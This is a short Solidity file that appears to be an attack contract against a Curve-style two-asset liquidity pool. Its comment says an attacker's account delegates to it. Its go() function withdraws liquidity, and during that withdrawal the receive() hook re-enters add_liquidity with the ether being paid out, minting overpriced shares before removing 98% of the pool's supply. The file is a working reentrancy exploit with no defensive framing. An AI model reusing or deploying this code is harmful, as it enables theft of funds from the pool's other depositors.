// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IPool {
    function add_liquidity(uint256[2] calldata amounts, uint256 least) external payable returns (uint256);
    function remove_liquidity(uint256 amount, uint256[2] calldata least) external;
    function balanceOf(address who) external view returns (uint256);
    function totalSupply() external view returns (uint256);
}

/// What the attacker's own account delegates to: paid half way, it puts the ether back for shares that count too much.
contract Sleeve {
    IPool private immutable pool;
    bool private half;

    constructor(IPool pool_) {
        pool = pool_;
    }

    function go(uint256 stake) external {
        require(msg.sender == address(this));
        uint256[2] memory none;
        pool.add_liquidity{value: stake}([stake, uint256(0)], 0);
        half = true;
        pool.remove_liquidity(pool.balanceOf(address(this)), none);
        half = false;
        pool.remove_liquidity(pool.totalSupply() * 98 / 100, none);
    }

    receive() external payable {
        if (half) {
            try pool.add_liquidity{value: msg.value}([msg.value, uint256(0)], 0) {} catch {}
        }
    }
}
